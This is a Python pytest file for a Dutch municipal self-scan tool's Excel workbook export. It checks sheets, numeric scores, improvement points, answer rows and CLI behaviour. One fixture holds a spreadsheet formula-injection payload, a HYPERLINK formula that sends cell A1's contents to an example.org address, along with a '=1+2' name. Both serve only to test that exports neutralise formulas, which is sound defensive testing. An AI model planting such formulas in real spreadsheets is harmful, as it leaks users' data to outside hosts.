"""The meting's workbook (XLSX), opened with openpyxl as a spreadsheet program would: Dutch
sheets, numbers as numbers equal to what the pages show, the verbeterpunten with their steps and
ambities, the CSV export's answers, and no text that a spreadsheet reads as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from click.testing import CliRunner

from tests.store_fixtures import maak, mini
from zelfscan import opslag
from zelfscan.cli import main
from zelfscan.inlezen.model import Gemeente
from zelfscan.opslag import uitwisseling
from zelfscan.opslag.verbinding import open_db
from zelfscan.rapport import werkmap
from zelfscan.scores import resultaten, scoring

FORMULE = '=HYPERLINK("https://example.org/?"&A1,"klik")'
BLADEN = ["Meting", "Scores", "Verbeterpunten", "Ambities", "Antwoorden"]


@pytest.fixture
def meting(tmp_path):
    """A concept meting of Noord (Aardam, Bëekhuizen): Aardam answered with weak and strong
    answers, a toelichting that looks like a formula, and an ambitie."""
    pad = tmp_path / "zelfscan.db"
    db = open_db(pad)
    m = maak(db, mini())
    aardam = m.gemeenten[0].cbs
    for i, vraag in enumerate(m.vragenlijst.vragen):
        opslag.sla_antwoord(db, m.id, aardam, vraag.id, i % 4, wie="fien")
    opslag.sla_antwoord(db, m.id, aardam, "visie-1", 0, toelichting=FORMULE, wie="fien")
    opslag.sla_antwoord(db, m.id, m.gemeenten[1].cbs, "visie-1", 3, wie="fien")
    opslag.sla_ambitie(
        db,
        m.id,
        aardam,
        "visie",
        2,
        "+ samen met het wijkteam",
        door="Teamleider wijkteam",
        wanneer="2027-Q2",
        wie="fien",
    )
    yield db, opslag.meting(db, m.id), pad
    db.conn.close()


def open_boek(inhoud: bytes):
    return openpyxl.load_workbook(io.BytesIO(inhoud))


def rijen(blad) -> list[tuple]:
    return list(blad.iter_rows(values_only=True))


def test_the_sheets_hold_the_scores_as_numbers_the_verbeterpunten_and_the_answers(meting):
    db, m, _ = meting
    uitslag = resultaten.bereken(m, opslag.antwoorden(db, m.id))
    aardam = uitslag.gemeenten[0]
    boek = open_boek(werkmap.werkmap(db, m.id))
    assert boek.sheetnames == BLADEN

    # Meting: what it is, and that it is a concept.
    meting_blad = dict(rijen(boek["Meting"]))
    assert meting_blad["Meting"] == m.titel
    assert meting_blad["Let op"].startswith("Concept: deze meting is nog niet afgerond")
    assert boek["Meting"]["B8"].value.date() == date(2021, 10, 12)  # a date, not a text

    # Scores: a column per gemeente; whole numbers as on the pages, numbers not texts.
    scores = boek["Scores"]
    kop, *inhoud = rijen(scores)
    assert kop[:5] == ("Soort", "Onderdeel", "Thema", "Aardam", "Bëekhuizen")
    per_thema = {r[2]: r for r in inhoud if r[0] == "thema"}
    for thema in m.vragenlijst.themas:
        verwacht = scoring.afgerond(aardam.scores.thema(thema.id).score)
        assert per_thema[thema.titel][3] == verwacht
        assert isinstance(per_thema[thema.titel][3], int)
    # Bëekhuizen answered one vraag: a thema without a score says why, as the table does.
    assert per_thema["Sturing en monitoring"][4] == "onvoldoende beantwoord"
    totaal = next(r for r in inhoud if r[0] == "totaal")
    assert totaal[3] == scoring.afgerond(aardam.scores.score)
    beantwoord = next(i for i, r in enumerate(inhoud, 2) if r[0] == "beantwoord")
    assert scores.cell(beantwoord, 4).value == pytest.approx(aardam.scores.dekking)
    assert scores.cell(beantwoord, 4).number_format == "0%"

    # Verbeterpunten: in rank order, each with its step and the gemeente's ambitie.
    kop, *punten = rijen(boek["Verbeterpunten"])
    eigen = [r for r in punten if r[0] == "Aardam"]
    assert [r[2] for r in eigen] == [
        m.vragenlijst.thema(vp.thema_id).titel for vp in aardam.verbeterlijst.punten
    ]
    assert [r[1] for r in eigen] == list(range(1, len(eigen) + 1))
    visie = next(r for r in eigen if r[2] == "Visie en opdrachtgeverschap")
    [punt] = [vp for vp in aardam.verbeterlijst.punten if vp.thema_id == "visie"]
    assert visie[kop.index("Advies")] == punt.advies_teksten[0]
    assert visie[kop.index("Score")] == scoring.afgerond(punt.score)
    assert visie[kop.index("Ambitie")] == "Grotendeels"
    assert visie[kop.index("Toelichting bij de ambitie")] == "+ samen met het wijkteam"
    assert visie[kop.index("Wie voert de ambitie uit")] == "Teamleider wijkteam"
    assert visie[kop.index("Wanneer")] == "2027-Q2"

    # Ambities: one row.
    kop, *ambities = rijen(boek["Ambities"])
    assert [(r[0], r[2], r[4], r[5], r[7], r[8]) for r in ambities] == [
        (
            "Aardam",
            "Visie en opdrachtgeverschap",
            "Grotendeels",
            2,
            "Teamleider wijkteam",
            "2027-Q2",
        )
    ]

    # Antwoorden: the CSV export's rows, cell for cell (the CSV guards formulas its own way).
    kop, *antwoorden = rijen(boek["Antwoorden"])
    assert kop == uitwisseling.CSV_KOLOMMEN
    uit_csv = list(
        csv.reader(
            io.StringIO(uitwisseling.csv_bytes(db, [m.id]).decode("utf-8-sig")), delimiter=";"
        )
    )[1:]
    assert len(antwoorden) == len(uit_csv) == len(m.vragenlijst.vragen) + 1
    for rij, csv_rij in zip(antwoorden, uit_csv, strict=True):
        assert [("" if w is None else str(w)) for w in rij] == [c.lstrip("'") for c in csv_rij]
    assert isinstance(antwoorden[0][kop.index("waarde")], int)


def test_no_text_is_ever_a_formula(meting):
    db, m, _ = meting
    # A gemeente name as a formula (a hostile data file or import): the name in the headers of
    # Scores and in every row of the other sheets.
    gegevens = werkmap.verzamel_werkmap(db, m.id)
    vijandig = (Gemeente(m.gemeenten[0].cbs, "=1+2"), *m.gemeenten[1:])
    inhoud = werkmap.maak(replace(gegevens, meting=replace(m, gemeenten=vijandig)))
    boek = open_boek(inhoud)
    assert boek["Scores"]["D1"].value == "=1+2"
    assert boek["Scores"]["D1"].data_type == "s"
    assert boek["Scores"]["D1"].quotePrefix
    toelichting = next(c for r in boek["Antwoorden"].iter_rows() for c in r if c.value == FORMULE)
    assert toelichting.data_type == "s" and toelichting.quotePrefix
    ambitie = next(
        c for r in boek["Ambities"].iter_rows() for c in r if c.value == "+ samen met het wijkteam"
    )
    assert ambitie.quotePrefix
    # And in the file itself: not one formula in any sheet.
    with zipfile.ZipFile(io.BytesIO(inhoud)) as zip_:
        for naam in zip_.namelist():
            if naam.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zip_.read(naam)), naam


def test_an_afgeronde_meting_has_no_concept_notice(meting):
    db, m, _ = meting
    opslag.rond_af(db, m.id, wie="fien")
    boek = open_boek(werkmap.werkmap(db, m.id))
    assert "Let op" not in dict(rijen(boek["Meting"]))
    assert not boek["Scores"].oddHeader.center.text


def test_zelfscan_export_writes_the_workbook(meting, tmp_path):
    _, m, pad = meting
    uit = tmp_path / "werkmap.xlsx"
    resultaat = CliRunner().invoke(
        main,
        ["export", "--db", str(pad), "--meting", str(m.id), "--format", "xlsx", "--out", str(uit)],
    )
    assert resultaat.exit_code == 0, resultaat.output
    assert open_boek(uit.read_bytes()).sheetnames == BLADEN
    # One workbook is one meting, and it is a file, not text for the terminal.
    for args, melding in (
        (["--format", "xlsx", "--out", str(uit)], "precies één meting"),
        (["--format", "xlsx", "--meting", str(m.id)], "--out"),
    ):
        fout = CliRunner().invoke(main, ["export", "--db", str(pad), *args])
        assert fout.exit_code != 0
        assert melding in fout.output
